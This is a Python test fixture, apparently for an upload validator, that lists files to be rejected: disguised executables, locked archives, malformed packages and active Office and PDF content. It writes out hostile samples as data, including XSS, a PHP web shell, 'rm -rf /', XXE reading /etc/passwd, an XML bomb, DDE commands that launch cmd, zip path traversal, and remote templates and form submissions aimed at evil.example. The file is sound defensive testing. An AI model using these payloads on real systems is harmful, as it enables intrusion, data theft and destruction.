"""Uploads that are not taken: active, disguised, packed, locked or misshapen. Each with a word of what it is told."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pypdf

from tests.admin_api.attachments.made import (
    HELLO,
    WORD_TYPE,
    XML,
    Pdf,
    S,
    docx,
    packed,
    picture,
    types,
    with_part,
    xlsx,
)
from tests.admin_api.attachments.places import field

Upload = tuple[str, Callable[[], bytes], str]
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
EXE = b"MZ\x90\0" + bytes(60) + b"This program cannot be run in DOS mode." + bytes(200)


def _pdf(**keys: str) -> bytes:
    return Pdf(HELLO, **keys).file()


def _locked_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer.encrypt("secret", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _entries(*entries: tuple[zipfile.ZipInfo | str, bytes]) -> bytes:
    """A Word document with further entries of any name and kind."""
    buffer = io.BytesIO(docx())
    with zipfile.ZipFile(buffer, "a") as package:
        for name, data in entries:
            package.writestr(name, data)
    return buffer.getvalue()


def _link() -> bytes:
    entry = zipfile.ZipInfo("word/media/image1.png")
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    return _entries((entry, b"/etc/passwd"))


def _locked_entry() -> bytes:
    data = bytearray(docx())
    place = data.find(b"PK\x01\x02")
    data[place + 8] |= 1
    return bytes(data)


def _overlapping() -> bytes:
    """Two entries of the directory share the same bytes."""
    data = docx()
    start = data.find(b"PK\x01\x02")
    end = data.rfind(b"PK\x05\x06")
    length = 46 + sum(struct.unpack("<HHH", data[start + 28 : start + 34]))
    copy = bytearray(data[start : start + length])
    name = copy[46 : 46 + 19]
    copy[46 : 46 + 19] = b"[content_types].xmk" if len(name) == 19 else name
    tail = bytearray(data[end:])
    count = struct.unpack("<H", tail[8:10])[0] + 1
    size = end - start + length
    tail[8:16] = struct.pack("<HHI", count, count, size)
    return data[:end] + bytes(copy) + bytes(tail)


def _wrong_local_name() -> bytes:
    return docx().replace(b"word/document.xml", b"word/documenT.xml", 1)


def _xml_bomb() -> bytes:
    entities = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(1, 12))
    text = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a1 "aaaaaaaaaa">{entities}]><a>&a12;</a>'
    return docx("", {"customXml/item1.xml": text})


def _xxe(encoding: str) -> bytes:
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    )
    return docx("", {"customXml/item1.xml": text.encode(encoding)})


def _typed(kind: str) -> bytes:
    return docx("", {"[Content_Types].xml": types(word__document=kind)})


def _wide_picture() -> bytes:
    """A PNG that says it has a billion pixels."""
    data = bytearray(picture("PNG"))
    data[16:24] = struct.pack(">II", 50_000, 20_000)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def _action(action: str) -> bytes:
    return _pdf(catalogue=f"/OpenAction << {action} >>")


def _note(keys: str) -> bytes:
    return Pdf(HELLO, page="/Annots [30 0 R]").set(30, f"<< /Type /Annot /Rect [0 0 9 9] {keys} >>").file()


def _linked(kind: str, target: str) -> bytes:
    return docx("", links=(("r7", kind, f"!{target}"),))


def _calculated(formula: str) -> bytes:
    return xlsx(f'<row r="3"><c r="A3" t="str"><f>{formula}</f><v>1</v></c></row>')


DDE = f'{XML}<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
PLAIN_ZIP = packed({"a.txt": "a"})
OFFICE = "http://schemas.microsoft.com/office/2006/relationships/"

REFUSED: dict[str, Upload] = {
    # none of the seven kinds
    "svg": ("a.svg", lambda: SVG, "png"),
    "html": ("a.html", lambda: b"<html><script>alert(1)</script></html>", "html"),
    "program": ("a.exe", lambda: EXE, "程序"),
    "script": ("a.js", lambda: b"alert(1)", "js"),
    "batch": ("a.bat", lambda: b"@echo off\r\nformat c:", "bat"),
    "shell": ("a.sh", lambda: b"#!/bin/sh\nrm -rf /", "程序"),
    "zip": ("a.zip", lambda: PLAIN_ZIP, "解开"),
    "rar": ("a.rar", lambda: b"Rar!\x1a\x07\x01\0" + bytes(50), "解开"),
    "7z": ("a.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(50), "解开"),
    "doc": ("a.doc", lambda: OLD, ".docx"),
    "xls": ("a.xls", lambda: OLD, ".xlsx"),
    "wps": ("a.wps", lambda: OLD, ".docx"),
    "et": ("a.et", lambda: OLD, ".xlsx"),
    "rtf": ("a.rtf", lambda: b"{\\rtf1 a}", ".docx"),
    "gif": ("a.gif", lambda: picture("GIF"), "png"),
    "bmp": ("a.bmp", lambda: picture("BMP"), "png"),
    "tiff": ("a.tif", lambda: picture("TIFF"), "png"),
    "video": ("a.mp4", lambda: b"\0\0\0\x18ftypmp42" + bytes(40), "视频"),
    "ofd": ("a.ofd", lambda: packed({"OFD.xml": "<a/>"}), "pdf"),
    "shortcut": ("a.lnk", lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(60), "快捷方式"),
    "nothing": ("a.pdf", lambda: b"", "空"),
    "no extension": ("名单", lambda: b"\x01\x02\x03", "扩展名"),
    # another kind than the name says
    "program called pdf": ("a.pdf", lambda: EXE, "程序"),
    "program called csv": ("a.csv", lambda: EXE, "程序"),
    "svg called png": ("a.png", lambda: SVG, "png"),
    "svg called csv": ("a.csv", lambda: SVG, "网页"),
    "html called csv": ("a.csv", lambda: b"a,b\n<script>alert(1)</script>\n", "网页"),
    "html called docx": ("a.docx", lambda: b"<html></html>", "docx"),
    "html called xlsx": ("a.xlsx", lambda: b"<html><table></table></html>", "xlsx"),
    "php called csv": ("a.csv", lambda: b"<?php system($_GET['a']); ?>", "程序"),
    "batch called csv": ("a.csv", lambda: b"@echo off\r\ndel *", "程序"),
    "mail called csv": ("a.csv", lambda: b"MIME-Version: 1.0\r\nContent-Type: text/html", "网页"),
    "binary called csv": ("a.csv", lambda: b"a,b\n\x01\x02\0\0", "表格"),
    "png called jpg": ("a.jpg", lambda: picture("PNG"), ".png"),
    "jpg called png": ("a.png", lambda: picture(), ".jpg"),
    "gif called png": ("a.png", lambda: picture("GIF"), "gif"),
    "docx called xlsx": ("a.xlsx", docx, ".docx"),
    "xlsx called docx": ("a.docx", xlsx, ".xlsx"),
    "pdf called docx": ("a.docx", lambda: _pdf(), ".pdf"),
    "docx called pdf": ("a.pdf", docx, ".docx"),
    "zip called docx": ("a.docx", lambda: PLAIN_ZIP, "压缩包"),
    "doc called docx": ("a.docx", lambda: OLD, "旧格式"),
    "docm by its name": ("a.docm", docx, "宏"),
    "double extension": ("a.pdf.exe", lambda: _pdf(), "exe"),
    # two kinds at once
    "pdf and zip": ("a.pdf", lambda: _pdf() + PLAIN_ZIP, "压缩包"),
    "jpg and zip": ("a.jpg", lambda: picture() + PLAIN_ZIP, "压缩包"),
    "png and html": ("a.png", lambda: picture("PNG") + b"<script>alert(1)</script>", "后面"),
    "jpg and pdf": ("a.jpg", lambda: picture() + _pdf(), "后面"),
    "webp and php": ("a.webp", lambda: picture("WEBP") + b"<?php a(); ?>", "后面"),
    "pdf and program": ("a.pdf", lambda: _pdf() + EXE * 10, "后"),
    "program and zip": ("a.docx", lambda: EXE + docx(), "程序"),
    "docx and more": ("a.docx", lambda: docx() + b"\0" * 2000, "结构"),
    # locked
    "locked docx": ("a.docx", lambda: OLD + "EncryptedPackage".encode("utf-16-le"), "密码"),
    "locked entry": ("a.docx", _locked_entry, "密码"),
    "locked pdf": ("a.pdf", _locked_pdf, "密码"),
    # misshapen folders
    "traversal": ("a.docx", lambda: _entries(("../../evil.xml", b"<a/>")), "结构"),
    "absolute name": ("a.docx", lambda: _entries(("/etc/evil.xml", b"<a/>")), "结构"),
    "backslashes": ("a.docx", lambda: _entries(("word\\evil.xml", b"<a/>")), "结构"),
    "symbolic link": ("a.docx", _link, "结构"),
    "doubled by case": ("a.docx", lambda: _entries(("WORD/document.xml", b"<a/>")), "结构"),
    "overlapping": ("a.docx", _overlapping, "结构"),
    "two names of one entry": ("a.docx", _wrong_local_name, "结构"),
    "too many entries": ("a.docx", lambda: _entries(*((f"a/{n}.xml", b"<a/>") for n in range(2_001))), "不正常"),
    "cut off": ("a.docx", lambda: docx()[:-100], "不完整"),
    # XML
    "entities": ("a.docx", _xml_bomb, "XML"),
    "entity from the disk": ("a.docx", lambda: _xxe("utf-8"), "XML"),
    "entity in UTF-16": ("a.docx", lambda: _xxe("utf-16"), "XML"),
    "broken XML": ("a.docx", lambda: docx("<w:p>"), "不完整"),
    # active Word documents
    "macro": ("a.docx", lambda: with_part("vbaProject.bin", f"{OFFICE}vbaProject", OLD), "宏"),
    "type of a macro": ("a.docx", lambda: _typed("application/vnd.ms-word.document.macroEnabled.main+xml"), "宏"),
    "type of a template": ("a.docx", lambda: _typed(f"{WORD_TYPE}.template.main+xml"), "宏"),
    "object": ("a.docx", lambda: with_part("embeddings/oleObject1.bin", "oleObject", OLD), "对象"),
    "control": ("a.docx", lambda: with_part("activeX/activeX1.xml", "control", "<a/>"), "对象"),
    "program inside": ("a.docx", lambda: with_part("media/evil.exe", "image", EXE), "程序"),
    "no picture where one should be": ("a.docx", lambda: with_part("media/image1.png", "image", b"anything at all"), "图片"),
    "tif inside": ("a.docx", lambda: with_part("media/image1.tiff", "image", picture("TIFF")), "tif"),
    "gif with a remark inside": ("a.docx", lambda: with_part("media/image1.gif", "image", picture("GIF", comment=b"Li Mishu")), "gif"),
    "svg inside": ("a.docx", lambda: with_part("media/image1.svg", "image", SVG), "程序"),
    "chunk of another kind": ("a.docx", lambda: with_part("chunk.html", "aFChunk", b"<html/>"), "嵌入"),
    "template from afar": ("a.docx", lambda: _linked("attachedTemplate", "https://evil.example/a.dotm"), "外面"),
    "template in the network": ("a.docx", lambda: _linked("attachedTemplate", "\\\\host\\a.dotm"), "外面"),
    "picture from afar": ("a.docx", lambda: _linked("image", "http://evil.example/a.png"), "外面"),
    "link that runs": ("a.docx", lambda: _linked("hyperlink", "javascript:alert(1)"), "链接"),
    "DDE": ("a.docx", lambda: docx(field("DDEAUTO c:\\\\windows\\\\cmd.exe")), "域"),
    "DDE in pieces": ("a.docx", lambda: docx(field("DD</w:instrText><w:instrText>E cmd")), "域"),
    "text from a file": ("a.docx", lambda: docx(field('INCLUDETEXT "c:\\\\a.txt"')), "域"),
    # active workbooks
    "macro of a workbook": ("a.xlsx", lambda: xlsx(parts={"xl/vbaProject.bin": OLD}), "宏"),
    "macro sheet": ("a.xlsx", lambda: xlsx(parts={"xl/macrosheets/sheet1.xml": "<a/>"}), "宏"),
    "link to a program": ("a.xlsx", lambda: xlsx(parts={"xl/externalLinks/externalLink1.xml": DDE}), "DDE"),
    "connection": (
        "a.xlsx",
        lambda: xlsx(parts={"xl/connections.xml": "<a/>"}, links=(("c1", "connections", "connections.xml"),)),
        "外部",
    ),
    "formula that starts a program": ("a.xlsx", lambda: _calculated("cmd|'/c calc'!A0"), "公式"),
    "formula that reads the web": ("a.xlsx", lambda: _calculated('WEBSERVICE("http://evil.example")'), "公式"),
    # active PDFs
    "script of a pdf": ("a.pdf", lambda: _action("/S /JavaScript /JS (app.alert(1))"), "脚本"),
    "script as a stream": ("a.pdf", lambda: Pdf(HELLO, catalogue="/OpenAction << /S /JavaScript /JS 30 0 R >>").stream(30, b"a()").file(), "脚本"),
    "start of a program": ("a.pdf", lambda: _action("/S /Launch /F (cmd.exe)"), "启动"),
    "form that sends": ("a.pdf", lambda: _action("/S /SubmitForm /F (http://evil.example)"), "启动"),
    "link to another pdf": ("a.pdf", lambda: _action("/S /GoToR /F (\\\\\\\\host\\\\a.pdf)"), "启动"),
    "media": ("a.pdf", lambda: _note("/Subtype /RichMedia"), "多媒体"),
    "moving form": ("a.pdf", lambda: _pdf(catalogue="/AcroForm << /Fields [] /XFA (a) >>"), "XFA"),
    "script of a page": ("a.pdf", lambda: _pdf(page="/AA << /O << /S /JavaScript /JS (a) >> >>"), "脚本"),
    "program in a pdf": (
        "a.pdf",
        lambda: Pdf(HELLO, catalogue="/Names << /EmbeddedFiles << /Names [(a) 30 0 R] >> >>")
        .set(30, "<< /Type /Filespec /F (a.exe) /EF << /F 31 0 R >> >>")
        .stream(31, EXE, "/Type /EmbeddedFile")
        .file(),
        "程序",
    ),
    "pdf without pages": ("a.pdf", lambda: b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF", "PDF"),
    "pdf without end": ("a.pdf", lambda: b"%PDF-1.7\n" + bytes(500), "PDF"),
    # pictures
    "a billion pixels": ("a.png", _wide_picture, "万像素"),
    "broken picture": ("a.jpg", lambda: picture()[:200], "损坏"),
    "only the start of a picture": ("a.png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(20), "损坏"),
}  # fmt: skip
